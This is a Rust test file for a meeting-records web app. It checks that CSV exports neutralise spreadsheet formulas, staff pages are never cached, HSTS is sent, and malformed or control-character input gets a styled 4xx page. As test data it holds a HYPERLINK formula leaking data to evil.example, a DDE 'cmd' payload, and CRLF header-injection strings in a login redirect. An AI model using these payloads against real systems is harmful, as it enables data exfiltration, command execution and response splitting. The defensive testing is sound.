//! Faults from input and from caches: CSV cells a spreadsheet would run,
//! staff pages a cache could keep, HSTS, and input that must answer a 4xx
//! page in the site's layout rather than a 500 or axum's plain text.

use axum::body::Body;
use axum::http::Request;

use crate::common::{RecordBuilder, TestApp, TestResponse};

/// The rows of a CSV response, header first.
fn rows(response: &TestResponse) -> Vec<Vec<String>> {
    assert_eq!(response.status, 200, "{}", response.body);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(response.body.as_bytes());
    reader
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

/// The field `name` of the first data row.
fn field(rows: &[Vec<String>], name: &str) -> String {
    let at = rows[0].iter().position(|h| h == name).expect(name);
    rows[1][at].clone()
}

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_in_every_download() {
    let app = TestApp::new().await;
    let slug = RecordBuilder::new("2024-11-05", "@Stalking")
        .question(FORMULA)
        .evidence("+1+cmd|' /C calc'!A0")
        .decision(scrutiny::domain::Decision::Assured)
        .rationale("-2+3")
        .action(FORMULA)
        .owner("-5")
        .progress("2024-11-20", "Done.")
        .publish(&app.pool)
        .await
        .slug;

    let record = rows(&app.get(&format!("/meetings/{slug}.csv")).await);
    assert_eq!(field(&record, "question"), format!("'{FORMULA}"));
    assert_eq!(field(&record, "evidence"), "'+1+cmd|' /C calc'!A0");
    assert_eq!(field(&record, "decision_rationale"), "'-2+3");
    assert_eq!(field(&record, "topic"), "'@Stalking");
    assert_eq!(field(&record, "question_number"), "1", "numbers are untouched");
    assert_eq!(field(&record, "held_on"), "2024-11-05", "dates are untouched");

    let meetings = rows(&app.get("/meetings.csv").await);
    assert_eq!(field(&meetings, "topic"), "'@Stalking");
    assert_eq!(
        field(&meetings, "slug"),
        slug,
        "a slug never starts with a formula"
    );

    let actions = rows(&app.get("/actions.csv").await);
    assert_eq!(field(&actions, "text"), format!("'{FORMULA}"));
    assert_eq!(field(&actions, "topic"), "'@Stalking");
    assert_eq!(
        field(&actions, "owner"),
        "-5",
        "a cell that is only a number holds no formula: left as it is"
    );
    assert_eq!(field(&actions, "progress"), "2024-11-20: Done.");

    let json = app.get(&format!("/meetings/{slug}.json")).await;
    assert!(
        json.body.contains("\"text\":\"=HYPERLINK("),
        "the JSON is exactly as published: {}",
        json.body
    );
    let data = app.get("/data").await;
    assert!(
        data.prose("#csv-formulas")[0].contains("with an apostrophe ' in front"),
        "/data says so"
    );
}

/// Asserts that `response` may not be stored and varies with the cookie.
fn assert_never_stored(response: &TestResponse, what: &str) {
    assert_eq!(response.header("cache-control"), "no-store", "{what}");
    let vary: Vec<String> = response
        .headers
        .get_all("vary")
        .iter()
        .flat_map(|v| v.to_str().unwrap_or_default().split(','))
        .map(|v| v.trim().to_ascii_lowercase())
        .collect();
    assert!(vary.iter().any(|v| v == "cookie"), "{what}: vary {vary:?}");
}

#[tokio::test]
async fn every_staff_response_is_never_stored_and_varies_with_the_cookie() {
    let app = TestApp::new().await;
    let record = RecordBuilder::new("2024-11-05", "Stalking")
        .sample_question()
        .document("Report", "report.txt", "The report.")
        .draft(&app.pool)
        .await;

    let mut anonymous = app.visitor();
    let redirect = anonymous.get("/staff").await;
    assert_eq!(redirect.status, 303);
    assert_never_stored(&redirect, "the redirect to sign-in");
    assert_never_stored(&anonymous.get("/staff/login").await, "the sign-in page");
    let refused = anonymous.post_raw("/staff/logout", &[]).await;
    assert_eq!(refused.status, 403, "no form token");
    assert_never_stored(&refused, "a refusal by the CSRF guard");

    let kept = app.cache.kept();
    let mut admin = app.signed_in("admin").await;
    for uri in [
        "/staff".to_owned(),
        "/staff/users".to_owned(),
        format!("/staff/meetings/{}", record.id),
        format!("/staff/documents/{}", record.documents[0]),
    ] {
        let page = admin.get(&uri).await;
        assert_eq!(page.status, 200, "{uri}");
        assert_never_stored(&page, &uri);
    }
    let download = admin
        .get(&format!("/staff/documents/{}", record.documents[0]))
        .await;
    assert_eq!(download.body, "The report.", "a staff download");
    for uri in [
        "/staff/no-such-page",
        "/staff/meetings/abc",
        "/staff/meetings/999999",
    ] {
        let error = admin.get(uri).await;
        assert!(error.status.is_client_error(), "{uri}: {}", error.status);
        assert_never_stored(&error, uri);
    }
    let saved = admin.post("/staff/users", &[("email", "")]).await;
    assert_never_stored(&saved, "a refused form");
    assert_eq!(app.cache.kept(), kept, "the page cache kept no staff page");

    let public = app.get("/meetings").await;
    assert_eq!(public.status, 200);
    assert_ne!(
        public.header("cache-control"),
        "no-store",
        "public pages may be stored"
    );
}

#[tokio::test]
async fn hsts_is_sent_on_every_response_with_secure_cookies_and_never_without() {
    let secure = TestApp::with_secure_cookies().await;
    for uri in [
        "/",
        "/meetings",
        "/no-such-page",
        "/staff",
        "/staff/login",
        "/health",
    ] {
        let response = secure.get(uri).await;
        assert_eq!(
            response.header("strict-transport-security"),
            "max-age=31536000",
            "{uri}: {}",
            response.status
        );
    }
    let plain = TestApp::new().await;
    for uri in ["/", "/staff/login", "/no-such-page"] {
        assert!(
            plain
                .get(uri)
                .await
                .headers
                .get("strict-transport-security")
                .is_none(),
            "{uri}: none over plain HTTP"
        );
    }
}

/// Asserts that `response` is a 4xx page in the site's layout.
fn assert_site_error(response: &TestResponse, what: &str) {
    assert!(
        matches!(response.status.as_u16(), 400 | 404 | 422),
        "{what}: {} {}",
        response.status,
        response.body
    );
    assert!(
        response.header("content-type").starts_with("text/html"),
        "{what}: {}",
        response.header("content-type")
    );
    assert!(
        response.body.contains("<header class=\"site-header\">") && response.body.contains("</html>"),
        "{what}: the site's page, not plain text: {}",
        response.body
    );
    assert_eq!(response.texts("h1").len(), 1, "{what}");
}

#[tokio::test]
async fn bad_input_in_public_addresses_answers_the_sites_4xx_page() {
    let app = TestApp::new().await;
    let slug = RecordBuilder::new("2024-11-05", "Stalking")
        .sample_question()
        .publish(&app.pool)
        .await
        .slug;
    for uri in [
        "/meetings?topic=%00".to_owned(),
        "/meetings?topic=a%0Ab".to_owned(),
        "/meetings?year=%FF".to_owned(),
        "/actions?owner=%00".to_owned(),
        "/search?q=x&topic=%00".to_owned(),
        "/search?q=%00".to_owned(),
        "/search?q=caf%C3".to_owned(),
        "/topics/%00".to_owned(),
        "/meetings/%00".to_owned(),
        format!("/meetings/{slug}/revisions/%00"),
        "/ledger?page=%00".to_owned(),
        "/ledger.json?page=abc".to_owned(),
        "/staff/login?next=%2Fstaff%0D%0ALocation:%20x".to_owned(),
        "/staff/login?next=%00".to_owned(),
    ] {
        assert_site_error(&app.get(&uri).await, &uri);
    }
    let fine = app.get("/search?q=caf%C3%A9").await;
    assert_eq!(fine.status, 200, "UTF-8 is read");
}

#[tokio::test]
async fn a_control_character_in_next_at_sign_in_is_refused_not_followed() {
    let app = TestApp::new().await;
    app.account("officer@opcc.example", "staff").await;
    let mut visitor = app.visitor();
    for next in [
        "/staff/\r\nSet-Cookie: x=1",
        "/staff/\n",
        "/staff/\u{7f}",
        "/staff\0",
    ] {
        let response = visitor
            .post(
                "/staff/login",
                &[
                    ("email", "officer@opcc.example"),
                    ("password", crate::common::PASSWORD),
                    ("next", next),
                ],
            )
            .await;
        assert_site_error(&response, &format!("{next:?}"));
        assert_eq!(response.status, 400, "{next:?}");
    }
    let signed_in = visitor
        .sign_in("officer@opcc.example", crate::common::PASSWORD)
        .await;
    assert_eq!(signed_in.status, 303, "and an ordinary sign-in still works");
}

#[tokio::test]
async fn bad_input_in_staff_addresses_and_forms_answers_the_sites_4xx_page() {
    let app = TestApp::new().await;
    let record = RecordBuilder::new("2024-11-05", "Stalking")
        .sample_question()
        .draft(&app.pool)
        .await;
    let mut admin = app.signed_in("admin").await;
    for uri in [
        "/staff/meetings/abc",
        "/staff/meetings/1.5/preview",
        "/staff/questions/abc",
        "/staff/actions/-x",
        "/staff/documents/abc",
        "/staff/forward-plan/abc",
        "/staff/meetings/99999999999999999999999",
        "/staff/audit?meeting=%00",
        "/staff/audit?page=%0A",
    ] {
        let response = admin.get(uri).await;
        assert_site_error(&response, uri);
    }
    let meeting = format!("/staff/meetings/{}", record.id);
    for (uri, fields, status) in [
        ("/staff/meetings/abc".to_owned(), vec![("topic", "x")], 404),
        ("/staff/questions/abc/delete".to_owned(), vec![], 404),
        (
            format!("{meeting}/questions"),
            vec![("text", "Q\0?"), ("evidence", "")],
            400,
        ),
        (
            format!("{meeting}/questions"),
            vec![("text", "Q?"), ("evidence", "- a\u{1b}b")],
            400,
        ),
        (
            "/staff/meetings".to_owned(),
            vec![("topic", "Stalking"), ("place", "Room\0 1")],
            400,
        ),
        (
            "/staff/users".to_owned(),
            vec![("email", "a\0@example.org"), ("role", "staff")],
            400,
        ),
    ] {
        let response = admin.post(&uri, &fields).await;
        assert_site_error(&response, &format!("POST {uri} {fields:?}"));
        assert_eq!(
            response.status, status,
            "POST {uri} {fields:?}: refused at the edge"
        );
    }
    // Tabs and line ends are text a textarea sends: accepted.
    let saved = admin
        .post(
            &format!("{meeting}/questions"),
            &[("text", "Why?\tAnd how?"), ("evidence", "- One.\r\n- Two.")],
        )
        .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
}

#[tokio::test]
async fn a_form_body_that_is_not_a_form_answers_the_sites_page() {
    let app = TestApp::new().await;
    let mut admin = app.signed_in("admin").await;
    let token = admin.csrf().await;
    // A body that cannot carry the form token is refused by the token
    // check, with the site's page.
    let request = admin
        .build(Request::post("/staff/users"))
        .header("content-type", "application/json")
        .body(Body::from(format!("{{\"_csrf\": \"{token}\"}}")))
        .expect("request");
    let response = admin.send(request).await;
    assert_eq!(response.status, 403, "a JSON body to a form");
    assert!(response.body.contains("<header class=\"site-header\">"));
    let not_a_form = admin
        .upload(
            "/staff/users",
            &[("email", "a@b.c"), ("role", "staff")],
            ("x.txt", b"x"),
        )
        .await;
    assert_site_error(&not_a_form, "a multipart body to a form");
    let request = admin
        .build(Request::post("/staff/users"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Body::from(format!("_csrf={token}&email=%FF%FE&role=staff")))
        .expect("request");
    let response = admin.send(request).await;
    assert_site_error(&response, "invalid UTF-8 in a form");
    assert_eq!(
        response.status, 400,
        "invalid UTF-8 is refused before the form is read"
    );
    let record = RecordBuilder::new("2024-11-05", "Stalking")
        .sample_question()
        .draft(&app.pool)
        .await;
    let upload = admin
        .post(
            &format!("/staff/meetings/{}/documents", record.id),
            &[("title", "x")],
        )
        .await;
    assert_site_error(&upload, "an upload that is not multipart");
}

/// Waits until a statement of this test's database waits for a lock.
async fn until_a_save_waits_for_a_lock(pool: &sqlx::PgPool) {
    for _ in 0..500 {
        let waiting: i64 = sqlx::query_scalar(
            "select count(*) from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'",
        )
        .fetch_one(pool)
        .await
        .expect("pg_stat_activity");
        if waiting > 0 {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    panic!("the save never waited for the other one");
}

#[tokio::test]
async fn a_new_meeting_saved_at_the_same_moment_as_another_with_its_address_takes_the_next_one() {
    let app = TestApp::new().await;
    let mut staff = app.signed_in("staff").await;
    // Another save, not yet committed, holds the address this one will
    // find free: this insert waits on the unique index, then is refused.
    let mut other = app.pool.begin().await.expect("transaction");
    sqlx::query(
        "insert into meeting (slug, topic, held_on) values ('2024-11-05-stalking', 'Stalking', '2024-11-05')",
    )
    .execute(&mut *other)
    .await
    .expect("the other save");
    let pool = app.pool.clone();
    let (saved, ()) = tokio::join!(
        staff.post(
            "/staff/meetings",
            &[("topic", "Stalking"), ("held_on", "2024-11-05")]
        ),
        async move {
            until_a_save_waits_for_a_lock(&pool).await;
            other.commit().await.expect("the other save commits");
        }
    );
    assert_eq!(saved.status, 303, "{}", saved.body);
    let slugs: Vec<String> = sqlx::query_scalar("select slug from meeting order by id")
        .fetch_all(&app.pool)
        .await
        .expect("slugs");
    assert_eq!(slugs, ["2024-11-05-stalking", "2024-11-05-stalking-2"]);
}
